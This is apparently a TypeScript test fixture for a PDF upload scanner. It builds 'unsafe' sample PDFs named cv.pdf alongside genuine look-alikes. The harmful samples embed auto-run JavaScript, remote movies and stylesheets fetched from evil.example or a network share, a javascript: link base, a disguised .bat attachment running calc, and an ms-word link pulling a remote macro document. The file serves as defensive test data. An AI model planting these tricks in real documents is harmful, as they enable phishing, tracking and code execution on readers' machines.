/** PDFs that fetch or start something in little-known ways, and similar genuine ones. */
import type { Harmful } from './harmful-pdfs.ts';
import { CATALOGUE, CONTENTS, PAGE, PAGES, pdf, stream } from './pdf.ts';
import { packedPdf } from './pdf-variants.ts';
import { ADDRESSES } from './unusual-addresses.ts';

const unsafe = (what: string, content: Buffer): Harmful => [what, 'cv.pdf', content, 'unsafeFile'];
const withObject = (object: string) => pdf([CATALOGUE, PAGES, PAGE, CONTENTS, object]);
const withMarks = (...marks: string[]) =>
  pdf([
    CATALOGUE,
    PAGES,
    `${PAGE.slice(0, -2)} /Annots [${marks.map((mark) => `<< ${mark} >>`).join(' ')}] >>`,
    CONTENTS,
  ]);
const linkTo = (address: string) => `/Subtype /Link /A << /S /URI /URI (${address}) >>`;
const film = (place: string) => withMarks(`/Subtype /Movie /A true /Movie << /F ${place} >>`);
const form = (xml: string) =>
  pdf([CATALOGUE.replace('>>', '/AcroForm << /XFA 5 0 R >> >>'), PAGES, PAGE, CONTENTS, stream(xml)]);

const attached = (name: string, content: string) =>
  pdf([
    CATALOGUE,
    PAGES,
    PAGE,
    CONTENTS,
    `<< /Type /Filespec /F (${name}) /EF << /F 6 0 R >> >>`,
    stream(content, '/Type /EmbeddedFile'),
  ]);
const STYLE = ' <style>\n li > span[data-pdf-se-type=Lbl] { margin-right: .5em }\n</style>\n';

export const unusualHarmfulPdfs: Harmful[] = [
  unsafe('a film from elsewhere', film('(https://evil.example/a.mov)')),
  unsafe('a film from elsewhere, as a file', film('<< /Type /Filespec /FS /URL /F (https://evil.example/a.mov) >>')),
  unsafe(
    'a form with a style from a share',
    form('<?xml-stylesheet href="\\\\evil.example\\a.xslt"?><a><template/></a>'),
  ),
  unsafe(
    'a script that a reader may run although nothing says that it is one',
    pdf([CATALOGUE.replace('>>', '/OpenAction << /JS 5 0 R >> >>'), PAGES, PAGE, CONTENTS, stream('app.alert(1)')]),
  ),
  unsafe('a text without an end', withObject(`(${'a'.repeat(3_000_000)}`)),
  unsafe('a font with code', withObject('<< /Type /Font /Subtype /Type1 /FontMatrix [1 2 3 4 5 (0\\); alert\\(1)] >>')),
  unsafe('a script that links are relative to', withObject('<< /URI << /Base (javascript:alert\\(1\\)//) >> >>')),
  unsafe('a program behind the name of a stream', attached('a.bat:a.txt', 'calc')),
  unsafe('a page by a style', attached('a.xml', '<?xml-stylesheet href="#a"?><a id="a"/>')),
  unsafe('a style with a script behind it', attached('a.html', `${STYLE}<script>alert(1)</script>`)),
  unsafe('a style that is fetched', attached('a.html', '<style>@import "https://evil.example/a.css"</style>')),
  unsafe('a style with a place to fetch from', attached('a.html', '<style>a { b: url (//evil.example) }</style>')),
  unsafe('a style that is fetched, in other characters', attached('a.html', '<style>@\\69mport "a"</style>')),
  unsafe('a style that a shell would run', attached('a.bat', '<style>\ncalc\n</style>')),
  unsafe('a link to a program of the system', withMarks(linkTo('ms-word:ofe|u|https://evil.example/a.docm'))),
];

/** The tags of a text of a hundred pages, as Word writes them for screen readers. */
const marks = Array.from(
  { length: 30_000 },
  (_, index) => `<< /Type /StructElem /S /P /P 5 0 R /K [${index}] /Pg 3 0 R /A << /O /Layout /Placement /Block >> >>`,
);

export const unusualGenuinePdfs: [name: string, content: Buffer][] = [
  ['with a film beside it.pdf', film('(film.mov)')],
  ['with a font of its own.pdf', withObject('<< /Type /Font /Subtype /Type3 /FontMatrix [0.001 0 0 0.001 0 0] >>')],
  ['tagged, of a hundred pages.pdf', packedPdf([CATALOGUE, PAGES, PAGE, CONTENTS, ...marks])],
  ['tagged by LaTeX, with its style.pdf', attached('latex-list-css.html', STYLE)],
  ['with the settings of Distiller.pdf', attached('Press Quality.joboptions', '<<\n  /ASCII85EncodePages false\n>>')],
  [
    'signed, with the proofs of its certificates.pdf',
    withObject(
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Contents <${'30'.repeat(1_000_000)}> >>`,
    ),
  ],
  ['with links of every kind.pdf', withMarks(...ADDRESSES.map(linkTo))],
];
